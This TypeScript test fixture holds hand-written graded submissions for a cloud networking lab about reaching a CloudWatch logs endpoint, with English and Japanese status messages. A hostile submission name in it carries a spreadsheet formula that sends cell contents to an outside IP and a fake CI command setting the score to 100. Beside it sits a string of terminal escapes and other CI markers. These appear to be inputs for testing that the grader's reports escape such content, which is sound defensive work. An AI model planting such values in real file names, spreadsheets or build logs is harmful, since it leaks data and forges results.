import type { ConditionResult, Status, TaskResult } from '#labs/result.ts';
import { statusOfTask } from '#labs/stages.ts';
import type { Words } from '#request/words.ts';
import type { Graded, GradedLab, Trouble } from '#grading/graded.ts';

/** A few submissions of L03, written by hand: every way in which one can come out. */
const expected: Readonly<Record<string, Words>> = {
  'reach-logs': {
    en: 'The notebook connects to logs.ap-northeast-1.amazonaws.com on 443',
    ja: 'ノートブックから logs.ap-northeast-1.amazonaws.com の 443 に接続できる',
  },
  internet: {
    en: 'The notebook does not reach the internet',
    ja: 'ノートブックからインターネットには出られない',
  },
  'two-zones': {
    en: 'The endpoint for logs stands in both zones',
    ja: 'logs のエンドポイントが両方のゾーンにある',
  },
  'may-write': {
    en: 'The notebook’s role may write its own log group',
    ja: 'ノートブックのロールが自分のロググループに書き込める',
  },
};

const titles: Readonly<Record<string, Words>> = {
  path: { en: 'The notebook’s logs find a way out', ja: 'ノートブックのログに道を通す' },
  permission: { en: 'They, and only they, are let in', ja: 'そのログだけを受け付けさせる' },
};

const told: Readonly<Record<Status, { observed: Words; where: Words; message: Words }>> = {
  pass: said(
    ['connected', '接続できた'],
    ['vpce-logs', 'vpce-logs'],
    ['As it should.', '期待どおりです。'],
  ),
  warning: said(
    ['in one zone', '一つのゾーンだけ'],
    ['vpce-logs', 'vpce-logs'],
    ['One zone is not enough when it fails.', 'ゾーンが一つだけでは、障害のときに止まります。'],
  ),
  fail: said(
    ['timeout', 'タイムアウト'],
    ['security group "logs" <inbound> & its rules', 'セキュリティグループ「logs」<インバウンド>'],
    [
      'The request got as far as the endpoint.\nNo rule let it in.',
      'リクエストはエンドポイントまで届きました。\n受け入れるルールがありません。',
    ],
  ),
  error: said(
    ['nothing', '何も得られない'],
    ['-', '-'],
    ['It was not judged.', '判定していません。'],
  ),
  skipped: said(
    ['not looked at yet', 'まだ見ていません'],
    ['-', '-'],
    ['Comes after: the way out', '先に済ませる課題: 道を通す'],
  ),
};

type Pair = readonly [en: string, ja: string];

function said(observed: Pair, where: Pair, message: Pair) {
  const words = ([en, ja]: Pair): Words => ({ en, ja });
  return { observed: words(observed), where: words(where), message: words(message) };
}

function condition(id: string, status: Status): ConditionResult {
  const code = status === 'fail' ? 'ENI_SG_RULES_MISMATCH' : status;
  return { id, status, expected: expected[id] ?? { en: id, ja: id }, code, ...told[status] };
}

function task(id: string, points: number, conditions: readonly [string, Status][]): TaskResult {
  const results = conditions.map(([name, status]) => condition(name, status));
  const title = titles[id] ?? { en: id, ja: id };
  return { id, title, status: statusOfTask(results), points, max: 50, conditions: results };
}

export function lab(
  path: readonly [points: number, reach: Status, internet: Status, zones: Status],
  permission: readonly [points: number, mayWrite: Status],
  rest: Partial<GradedLab> = {},
): GradedLab {
  return {
    schema: 'closednet.result/1',
    lab: 'L03',
    attempt: 'L03-7',
    seed: 7,
    account: '000000000012',
    backend: { kind: 'localstack', version: '4.14.0' },
    startedAt: '2026-01-15T09:30:00.123Z',
    durationMs: 4210,
    score: path[0] + permission[0],
    max: 100,
    isolation: 'namespaces',
    tasks: [
      task('path', path[0], [
        ['reach-logs', path[1]],
        ['internet', path[2]],
        ['two-zones', path[3]],
      ]),
      task('permission', permission[0], [['may-write', permission[1]]]),
    ],
    ...rest,
  };
}

const emulatorGone: Trouble = {
  code: 'emulator-gone',
  what: { en: 'The emulated AWS does not answer.', ja: 'AWS エミュレーターが応答しません。' },
  got: { en: 'no connection', ja: '接続できません' },
  try: { en: 'npx closednet start', ja: 'npx closednet start' },
};

const tooLarge: Trouble = {
  code: 'submission-too-large',
  what: { en: 'The submission is too large.', ja: '提出物が大きすぎます。' },
  expected: { en: 'at most 10 MB', ja: '10 MB 以下' },
  got: { en: '200 MB', ja: '200 MB' },
};

/** Colours, a bell, a backspace, half a character, and words that other tools take as commands. */
const hostileOutput =
  '\u001B[31mred\u001B[0m\u0007\b\uD800\uFFFE ]]> <b>&amp;</b> "quoted"\r\n::error::mine\n```\n| a | b |\n@everyone';

export const hostileName =
  '=HYPERLINK("http://203.0.113.9/?"&A1)\n::set-output name=score::100 | <b>';

const nothing = lab([0, 'skipped', 'skipped', 'skipped'], [0, 'skipped'], {
  isolation: 'nothing-ran',
});

const ranWell = { run: { ended: 'exited', code: 0, output: '' } } as const;
const right = lab([50, 'pass', 'pass', 'pass'], [50, 'pass'], ranWell);
const half = lab([50, 'pass', 'pass', 'warning'], [0, 'fail'], {
  run: { ended: 'exited', code: 254, output: 'An error occurred (InvalidParameterValue)\n' },
});
const wide = lab([0, 'pass', 'fail', 'pass'], [0, 'skipped'], {
  resembles: [{ id: 'nat-gateway', title: { en: 'A NAT gateway', ja: 'NAT ゲートウェイ' } }],
});
const hostile = lab([30, 'fail', 'pass', 'pass'], [0, 'skipped'], {
  isolation: 'none',
  run: { ended: 'output', output: hostileOutput },
});
const broken = lab([0, 'error', 'error', 'error'], [0, 'error'], {
  score: null,
  isolation: 'nothing-ran',
  trouble: emulatorGone,
});

export const aClass = {
  right: { submission: 'maple', labs: [right] },
  half: { submission: '田中 太郎.sh', labs: [half] },
  wide: { submission: '-otter.py', labs: [wide] },
  hostile: { submission: hostileName, labs: [hostile] },
  trouble: { submission: 'kumo', labs: [right, { ...broken, lab: 'L15' }] },
  refused: { submission: 'yuzu.bin', labs: [nothing], refused: tooLarge },
  emptyHanded: {
    submission: 'ebi',
    labs: [lab([0, 'fail', 'pass', 'skipped'], [0, 'skipped'], ranWell)],
  },
} satisfies Readonly<Record<string, Graded>>;

export const everybody: readonly Graded[] = Object.values(aClass);
